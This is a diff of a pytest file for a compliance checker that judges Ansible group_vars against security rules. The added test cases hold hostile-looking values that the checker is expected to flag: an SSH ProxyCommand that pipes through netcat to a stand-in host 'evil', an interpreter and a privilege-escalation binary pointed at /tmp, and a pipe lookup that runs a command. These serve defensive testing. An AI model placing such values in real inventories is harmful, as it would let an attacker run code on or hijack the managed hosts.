@@ -176,7 +176,7 @@ def test_every_role_default_keeps_its_own_constraint(repo):
 def test_an_unclassified_role_variable_fails_pilot_mlps3(make_env):
     env = make_env(files={"group_vars/all.yml": "baseline_firewall_enable: false\nmy_site_note: free text\n"})
     [f] = failing(check(env))
-    assert f.rule.id == "PILOT-MLPS3" and "baseline_firewall_enable" in f.message and "does not classify" in f.message
+    assert f.rule.id == "PILOT-MLPS3" and "baseline_firewall_enable" in f.message and "not classified" in f.message
 
 
 def test_an_unclassified_variable_in_a_custom_thresholds_file_fails(make_env, repo, tmp_path):
@@ -202,6 +202,11 @@ def test_an_unclassified_variable_in_a_custom_thresholds_file_fails(make_env, re
     ("baseline_ssh_port: \"{{ 22 }}\"", "MLPS3-MGMT-ACL"),
     ("cdn_node_worker_connections: \"{{ lookup('pipe', 'id') }}\"", "PILOT-MLPS3"),
     ("sdwan_edge_preshared_keys: {'a:b': c2VjcmV0}", "PILOT-SDWAN-ENCRYPT"),
+    ("ansible_ssh_common_args: -o ProxyCommand=nc evil 22", "MLPS3-AUTH-REMOTE"),
+    ("ansible_host: 192.0.2.66", "MLPS3-MGMT-ACL"),
+    ("ansible_become_exe: /tmp/x", "MLPS3-ACCESS-ACCOUNTS"),
+    ("ansible_python_interpreter: /tmp/evil", "PILOT-MLPS3"),
+    ("ansible_ssh_executable_typo: x", "PILOT-MLPS3"),
 ])
 def test_role_variables_of_every_role_are_judged(text, rule, make_env):
     report = check(make_env(files={"group_vars/all.yml": text + "\n"}))
@@ -214,6 +219,7 @@ def test_role_variables_of_every_role_are_judged(text, rule, make_env):
     "baseline_high_risk_packages: [telnetd, inetutils-telnetd, telnet-server, rsh-server, rsh-redone-server, tftpd, tftpd-hpa,"
     " tftp-server, atftpd, xinetd, ypserv, nis, vsftpd, proftpd-basic, pure-ftpd, talkd, rlinetd, finger]",
     "baseline_firewall_enabled: yes", "zt_gateway_min_tls: '1.3'", "my_own_variable: \"{{ anything }}\"",
+    "ansible_user: \"{{ idcpilot_automation_account }}\"", "ansible_become: true", "ansible_port: 2222",
 ])
 def test_values_that_keep_the_controls_pass(text, make_env):
     assert failing(check(make_env(files={"group_vars/all.yml": text + "\n"}))) == []
